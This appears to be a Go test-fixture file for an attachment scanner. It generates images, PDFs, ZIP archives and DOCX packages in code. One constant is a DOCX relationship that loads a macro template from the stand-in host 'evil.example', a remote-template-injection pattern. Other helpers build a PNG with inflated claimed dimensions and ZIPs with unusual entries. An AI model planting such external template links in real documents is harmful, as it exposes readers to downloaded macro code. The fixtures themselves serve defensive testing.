package attachment_test

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"image/png"
	"io/fs"
	"testing"

	"github.com/cxqkit/cxq/internal/testfile"

	"github.com/stretchr/testify/require"
)

// Every fixture is generated here; no binary test files are needed.

func testImage(w, h int) *image.RGBA {
	img := image.NewRGBA(image.Rect(0, 0, w, h))
	x := uint32(7)
	for i := range img.Pix {
		x = x*1664525 + 1013904223
		if i%4 == 3 {
			img.Pix[i] = 255
			continue
		}
		img.Pix[i] = byte(i/4%w*3) ^ byte(x>>29)
	}
	return img
}

func makeJPEG(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, jpeg.Encode(&b, testImage(w, h), &jpeg.Options{Quality: 90}))
	return b.Bytes()
}

// withEXIF inserts an APP1 Exif segment holding marker right after the SOI marker.
func withEXIF(jpg []byte, marker string) []byte {
	payload := append([]byte("Exif\x00\x00"), marker...)
	seg := []byte{0xFF, 0xE1, 0, 0}
	binary.BigEndian.PutUint16(seg[2:], uint16(len(payload)+2))
	out := append([]byte{}, jpg[:2]...)
	out = append(out, seg...)
	out = append(out, payload...)
	return append(out, jpg[2:]...)
}

func makePNG(t testing.TB, w, h int) []byte {
	t.Helper()
	var b bytes.Buffer
	require.NoError(t, png.Encode(&b, testImage(w, h)))
	return b.Bytes()
}

func pngChunk(typ string, data []byte) []byte {
	out := binary.BigEndian.AppendUint32(nil, uint32(len(data)))
	out = append(out, typ...)
	out = append(out, data...)
	return binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(append([]byte(typ), data...)))
}

// pngHeaderOnly is a PNG whose IHDR claims w×h pixels, with one tiny IDAT.
func pngHeaderOnly(w, h uint32) []byte {
	ihdr := binary.BigEndian.AppendUint32(nil, w)
	ihdr = binary.BigEndian.AppendUint32(ihdr, h)
	ihdr = append(ihdr, 8, 2, 0, 0, 0)
	out := []byte("\x89PNG\r\n\x1a\n")
	out = append(out, pngChunk("IHDR", ihdr)...)
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, _ = zw.Write(make([]byte, 64))
	_ = zw.Close()
	out = append(out, pngChunk("IDAT", z.Bytes())...)
	return append(out, pngChunk("IEND", nil)...)
}

// pdfDoc builds a PDF with a correct cross-reference table (testfile.PDFDoc).
func pdfDoc(objects []string, trailer string) []byte { return testfile.PDFDoc(objects, trailer) }

// pdfWith builds a one-page PDF whose catalog carries extra entries.
func pdfWith(catalogExtra string, more ...string) []byte {
	objs := []string{
		"<< /Type /Catalog /Pages 2 0 R " + catalogExtra + " >>",
		"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R >>",
		stream("<< /Length %d >>", []byte("BT /F1 12 Tf 72 720 Td (Hello \\(world\\) /JS) Tj ET")),
	}
	return pdfDoc(append(objs, more...), "")
}

func stream(dictFormat string, data []byte) string {
	return fmt.Sprintf(dictFormat, len(data)) + "\nstream\n" + string(data) + "\nendstream"
}

func deflate(data []byte) []byte {
	var z bytes.Buffer
	zw := zlib.NewWriter(&z)
	_, _ = zw.Write(data)
	_ = zw.Close()
	return z.Bytes()
}

// pdfSized pads a valid PDF with a binary stream so that it is exactly n bytes long.
func pdfSized(t testing.TB, n int) []byte {
	t.Helper()
	base := len(pdfWith("", stream("<< /Length %d >>", nil)))
	pad := n - base
	for range 3 { // the digits of /Length and offsets change the size; settle it
		doc := pdfWith("", stream("<< /Length %d >>", noise(pad)))
		if len(doc) == n {
			return doc
		}
		pad += n - len(doc)
	}
	t.Fatalf("cannot build a PDF of %d bytes", n)
	return nil
}

// noise is deterministic binary data without PDF keywords in it.
func noise(n int) []byte {
	b := make([]byte, n)
	x := uint32(99)
	for i := range b {
		x = x*1664525 + 1013904223
		b[i] = byte(x >> 24)
		if b[i] == '/' || b[i] == 'e' || b[i] == '%' {
			b[i] = 0x80
		}
	}
	return b
}

type zipEntry struct {
	name string
	data []byte
	mode fs.FileMode // 0 for a regular file
	raw  *zip.FileHeader
}

func makeZIP(t testing.TB, entries []zipEntry) []byte {
	t.Helper()
	var b bytes.Buffer
	zw := zip.NewWriter(&b)
	for _, e := range entries {
		if e.raw != nil {
			w, err := zw.CreateRaw(e.raw)
			require.NoError(t, err)
			_, err = w.Write(e.data)
			require.NoError(t, err)
			continue
		}
		h := &zip.FileHeader{Name: e.name, Method: zip.Deflate}
		if e.mode != 0 {
			h.SetMode(e.mode)
		}
		w, err := zw.CreateHeader(h)
		require.NoError(t, err)
		_, err = w.Write(e.data)
		require.NoError(t, err)
	}
	require.NoError(t, zw.Close())
	return b.Bytes()
}

const (
	contentTypes = `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`
	rootRels     = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>`
	documentXML  = `<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>技术服务合同</w:t></w:r></w:p></w:body></w:document>`
	externalRels = `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>`
)

func docxEntries(extra ...zipEntry) []zipEntry {
	return append([]zipEntry{
		{name: "[Content_Types].xml", data: []byte(contentTypes)},
		{name: "_rels/.rels", data: []byte(rootRels)},
		{name: "word/document.xml", data: []byte(documentXML)},
	}, extra...)
}

func makeDOCX(t testing.TB, extra ...zipEntry) []byte {
	return makeZIP(t, docxEntries(extra...))
}
